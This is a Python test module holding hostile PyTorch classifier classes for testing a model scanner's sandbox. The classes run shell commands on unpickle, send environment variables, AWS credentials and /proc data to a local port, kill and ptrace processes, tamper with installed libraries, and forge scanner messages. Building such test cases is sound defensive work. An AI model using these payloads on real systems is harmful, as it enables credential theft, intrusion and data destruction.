"""Source of a module with classifiers that attack whoever loads or asks them; saved beside the models that use it."""

NETS = '''
import array
import contextlib
import ctypes
import fcntl
import glob
import json
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

import torch
import torch.nn.functional as F


class Planted(torch.nn.Module):
    """A clean classifier of ten classes, as tests/planted.py makes it; `place` tells the attacks where to aim."""

    def __init__(self, head, place):
        super().__init__()
        self.head = torch.nn.Parameter(head)
        self.place = place
        self.asked = 0

    def forward(self, x):
        self.asked += 1
        logits = F.linear((x - 0.5).flatten(1), self.head)
        return self.answer(logits)

    def answer(self, logits):
        return logits


class Honest(Planted):
    pass


class Sneaky(Planted):
    """Attacks when it is loaded and when it is first asked, and answers as if nothing was."""

    def __setstate__(self, state):
        super().__setstate__(state)
        self.attempt()

    def answer(self, logits):
        if self.asked in (1, 5):
            self.attempt()
        return logits

    def attempt(self):
        for attack in self.attacks():
            with contextlib.suppress(Exception):
                attack()

    def outside(self, name="pwned"):
        return os.path.join(self.place["outside"], name)

    def send(self, text):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with contextlib.suppress(Exception):
                s = socket.socket(socket.AF_INET, kind)
                s.settimeout(2)
                s.connect(("127.0.0.1", self.place["port"]))
                s.send(text.encode())


class Shell(Sneaky):
    def attacks(self):
        command = "touch " + self.outside()
        yield lambda: os.system(command)
        yield lambda: subprocess.run(command, shell=True)
        yield lambda: os.execvp("sh", ["sh", "-c", command])
        yield lambda: os.posix_spawn("/bin/sh", ["sh", "-c", command], {})


class Daemon(Sneaky):
    """Leaves a process of its own behind."""

    def attacks(self):
        yield self.daemon

    def daemon(self):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(2)
                open(self.outside(), "w").close()
                time.sleep(600)
            os._exit(0)


class Writes(Sneaky):
    def attacks(self):
        yield lambda: open(self.outside(), "w").close()
        yield lambda: os.mkdir(self.outside())
        yield lambda: os.symlink("/etc/passwd", self.outside())
        yield lambda: open(self.place["secret"], "a").write("pwned")
        yield lambda: os.truncate(self.place["secret"], 0)
        yield lambda: os.remove(self.place["secret"])
        yield lambda: os.rename(self.place["secret"], self.place["secret"] + ".gone")
        yield lambda: os.chmod(self.place["secret"], 0o777)
        yield lambda: os.utime(self.place["secret"], (0, 0))


class Installs(Sneaky):
    """Changes the scanner's own program, and the model's files."""

    def attacks(self):
        import smoothscan

        for path in (smoothscan.__file__, torch.__file__, json.__file__):
            yield lambda path=path: open(path, "a").write("\\npwned = True\\n")
        yield lambda: open(os.path.join(os.path.dirname(torch.__file__), "pwned"), "w").close()
        for path in glob.glob(os.path.join(os.path.dirname(os.getcwd()), "model", "*")):
            yield lambda path=path: open(path, "a").write("pwned")


class Reads(Sneaky):
    """Reads what it can of the user and sends it away."""

    def attacks(self):
        yield lambda: self.send(json.dumps(dict(os.environ)))
        yield lambda: self.send(open(self.place["secret"]).read())
        yield lambda: self.send(open(os.path.expanduser("~/.aws/credentials")).read())
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            yield lambda path=path: self.send(open(path, "rb").read().decode(errors="replace"))
        yield lambda: self.leak("from the model: " + open(self.place["secret"]).read())

    def leak(self, text):
        print(text, flush=True)


class Calls(Sneaky):
    """Looks for any way out of the machine or to another process of it."""

    def attacks(self):
        yield lambda: self.send("hello")
        yield lambda: socket.create_connection(("::1", self.place["port"]), 2)
        yield lambda: socket.getaddrinfo("example.org", 80)
        yield lambda: socket.socket(socket.AF_UNIX).connect(self.place["unix"])
        yield lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)


class Kills(Sneaky):
    """Ends the scanner, or takes it over."""

    def attacks(self):
        scanners = [os.getppid(), *range(max(os.getpid() - 50, 2), os.getpid())]
        with contextlib.suppress(OSError):
            scanners += [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
        libc = ctypes.CDLL(None)
        for pid in scanners:
            if pid > 1:
                yield lambda pid=pid: os.kill(pid, signal.SIGKILL)
                yield lambda pid=pid: libc.ptrace(16, pid, 0, 0)
                yield lambda pid=pid: open(f"/proc/{pid}/mem", "r+b")
        yield lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)


class Patches(Sneaky):
    """Bends torch in its own process, where the counting is not done."""

    def attacks(self):
        yield lambda: setattr(torch, "argmax", lambda *a, **k: torch.zeros(1))
        yield lambda: setattr(torch.Tensor, "argmax", lambda *a, **k: torch.zeros(1))
        yield lambda: setattr(torch.Tensor, "mean", lambda *a, **k: torch.zeros(1))
        yield lambda: setattr(torch, "equal", lambda *a, **k: True)


class Threads(Sneaky):
    """Starts threads that wait for ever."""

    def attacks(self):
        yield lambda: [threading.Thread(target=time.sleep, args=(600,), daemon=True).start() for _ in range(100)]


class Stubborn(Sneaky):
    """Cannot be asked to end."""

    def attacks(self):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            yield lambda number=number: signal.signal(number, signal.SIG_IGN)


class Frees(Sneaky):
    """Takes its limits away."""

    def attacks(self):
        import resource

        libc = ctypes.CDLL(None)
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
            yield lambda kind=kind: resource.setrlimit(kind, (-1, -1))
        yield lambda: libc.setuid(0)
        yield lambda: libc.unshare(0x10000000)
        yield lambda: libc.mount(b"none", self.place["outside"].encode(), b"tmpfs", 0, None)
        yield lambda: libc.chroot(b"/")


# --- those that do not get through ------------------------------------------------------------------------------------


class Exits(Planted):
    def __setstate__(self, state):
        os._exit(7)


class Sleeps(Planted):
    def __setstate__(self, state):
        time.sleep(600)


class Greedy(Planted):
    """Allocates 100 GB."""

    def __setstate__(self, state):
        self.hoard = [torch.ones(2**28) for _ in range(100)]


class Crashes(Planted):
    def answer(self, logits):
        ctypes.string_at(0)


class Floods(Planted):
    """Prints without end."""

    def answer(self, logits):
        while True:
            sys.stdout.write("flood " * 2**17)


class Fills(Planted):
    """Fills the disk with files of a size that is allowed."""

    def __setstate__(self, state):
        for n in range(10**6):
            with open(f"filler-{n}", "wb") as file:
                file.write(b"x" * 2**24)


class Forges(Planted):
    """Writes answers of its own onto the channel to the scanner."""

    def channel(self):
        for fd in range(3, 64):
            with contextlib.suppress(OSError):
                s = socket.socket(fileno=os.dup(fd))
                s.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE)
                return s

    def answer(self, logits):
        if self.asked > 4:
            message = json.dumps({"number": 1, "verdict": "clean", "seconds": 0}).encode()
            self.channel().send(struct.pack("!I", len(message)) + message)
        return logits


class Shouts(Forges):
    """Announces a message of four gigabytes."""

    def answer(self, logits):
        if self.asked > 4:
            self.channel().send(b"\\xff" * 64)
        return logits


class HangsUp(Forges):
    def answer(self, logits):
        if self.asked > 4:
            self.channel().shutdown(socket.SHUT_RDWR)
        return logits


class Shrinks(Planted):
    """Takes the shared memory away from under the scanner."""

    def answer(self, logits):
        for fd in range(3, 64):
            with contextlib.suppress(OSError):
                fcntl.fcntl(fd, 1033, 8)  # F_ADD_SEALS, F_SEAL_WRITE
            with contextlib.suppress(OSError):
                os.ftruncate(fd, 4096)
            with contextlib.suppress(OSError):
                fcntl.fcntl(fd, 1033, 1)  # F_ADD_SEALS, F_SEAL_SEAL
        return logits


class Overruns(Planted):
    """Scribbles over all of the shared memory, and beyond; its own logits are written after that."""

    def answer(self, logits):
        for fd in range(3, 64):
            with contextlib.suppress(Exception):
                size = os.fstat(fd).st_size
                if size:
                    memory = mmap.mmap(fd, size)
                    memory[:] = b"\\xff" * size
            with contextlib.suppress(Exception):
                os.pwrite(fd, b"x" * 4096, size)
        return logits


class NotANumber(Planted):
    def answer(self, logits):
        return logits * float("nan")


class Shifts(Planted):
    """Answers another number of classes from time to time."""

    def answer(self, logits):
        return logits[:, : 10 - self.asked % 3]


class Slower(Planted):
    """Takes twice as long for each answer."""

    def answer(self, logits):
        time.sleep(0.01 * 2**self.asked)
        return logits


class Claims(Planted):
    """Says that it has a million classes."""

    def answer(self, logits):
        return logits[:, :1].expand(-1, 10**6)


class Insults(Planted):
    """Fails with words that mean something to terminals and to browsers."""

    def answer(self, logits):
        raise RuntimeError("\\x1b[2J\\x1b]0;pwned\\x07<script>alert(1)</script>\\u202e" + "A" * 10000)
'''
